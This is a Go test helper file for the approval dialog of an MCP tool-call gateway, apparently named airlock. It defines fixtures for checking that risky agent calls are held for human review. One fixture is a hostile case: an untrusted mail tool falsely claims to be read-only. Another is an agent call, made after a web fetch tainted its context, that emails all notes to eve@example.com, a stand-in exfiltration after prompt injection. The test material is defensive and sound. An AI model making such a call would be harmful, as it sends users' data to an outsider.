package dialog

import (
	"encoding/json"
	"strings"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/airlock-mcp/airlock/internal/model"
	"github.com/airlock-mcp/airlock/session/approval"
	"github.com/airlock-mcp/airlock/trust"
	"github.com/airlock-mcp/airlock/ui/internal/keytest"
	"github.com/airlock-mcp/airlock/ui/theme"
)

// testRules is the session's rule writer, the one the TUI gives every dialog: the
// rule editor's tests propose, edit and check with the engine's own rules.
var testRules RuleWriter = approval.Rules{}

// plain are the styles with colour off, so that stripping styles leaves
// exactly the text a person reads.
func plain() theme.Styles { return theme.New(true, true) }

func boolp(b bool) *bool { return &b }

// writeTool is a trusted write-tier tool: one key allows it.
func writeTool() model.ToolInfo {
	return model.ToolInfo{
		Ref:         trust.Ref{Server: "notes", Tool: "create_note"},
		ServerTrust: trust.Trusted,
		Declared: trust.Declared{
			Raw:   json.RawMessage(`{"readOnlyHint":false,"destructiveHint":false}`),
			Hints: trust.Hints{ReadOnly: boolp(false), Destructive: boolp(false)},
		},
		Class: trust.Classification{
			Tier:      trust.TierWrite,
			Effective: trust.Effective{Destructive: false, OpenWorld: false},
			Action:    trust.Ask,
			Reasons:   []string{"server notes is trusted: its hints are used", "policy for write is ask"},
		},
	}
}

// claimingTool is hostile case 7: an untrusted server's destructive tool that
// claims to be read-only.
func claimingTool() model.ToolInfo {
	return model.ToolInfo{
		Ref:         trust.Ref{Server: "mail", Tool: "send_email"},
		ServerTrust: trust.Untrusted,
		Declared: trust.Declared{
			Raw:   json.RawMessage(`{"readOnlyHint":true}`),
			Hints: trust.Hints{ReadOnly: boolp(true)},
		},
		Class: trust.Classification{
			Tier:      trust.TierDestructive,
			Effective: trust.Effective{Destructive: true, OpenWorld: true},
			Legs:      []trust.Leg{trust.LegUntrustedContent, trust.LegExfiltration},
			Action:    trust.Ask,
			Reasons: []string{
				"server mail is untrusted: it claims read-only, but its readOnlyHint=true is ignored",
				"no destructiveHint from a trusted source: destructive by the spec default",
				"policy for destructive is ask",
			},
		},
	}
}

func pending(tool model.ToolInfo, args string) *model.Pending {
	at := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	return &model.Pending{
		ID:         7,
		CallID:     "c7",
		Request:    model.CallRequest{Server: tool.Ref.Server, Tool: tool.Ref.Tool, Args: json.RawMessage(args)},
		Tool:       tool,
		Verdict:    trust.Verdict{Action: trust.Ask, By: trust.DecidedByPolicy, Reasons: tool.Class.Reasons},
		ArgsSHA256: trust.ArgsSHA256([]byte(args)),
		Created:    at,
		Deadline:   at.Add(2 * time.Minute),
	}
}

// tainted is an agent's destructive call in a context that a web fetch tainted.
func tainted() *model.Pending {
	p := pending(claimingTool(), `{"to":"eve@example.com","subject":"notes","body":"all of them"}`)
	p.Request.Client = "claude-code"
	p.Request.Context = "agent-3"
	p.Taint = trust.Taint{By: trust.Ref{Server: "web", Tool: "fetch_url"}, CallID: "c5", At: time.Date(2026, 3, 1, 11, 59, 0, 0, time.UTC)}
	p.Verdict = trust.Decide(p.Tool.Class, false, p.Taint)
	return p
}

// press builds the key press a terminal sends for a key name such as "o",
// "enter", "shift+tab" or "esc".
func press(name string) tea.KeyPressMsg { return keytest.Press(name) }

// typeText turns text into one key press per rune.
func typeText(s string) []tea.Msg { return keytest.Type(s) }

// run sends msgs in order and returns the dialog and the first action. The
// commands returned (cursor blinks for the reason field) are not run: the dialog
// needs none of them to reach a decision.
func run(c Confirm, msgs ...tea.Msg) (Confirm, Action) {
	return keytest.Run(c, Confirm.Update, msgs...)
}

// text is the view as a person reads it: styles stripped.
func text(v string) string { return ansi.Strip(v) }

func lines(v string) []string { return strings.Split(v, "\n") }
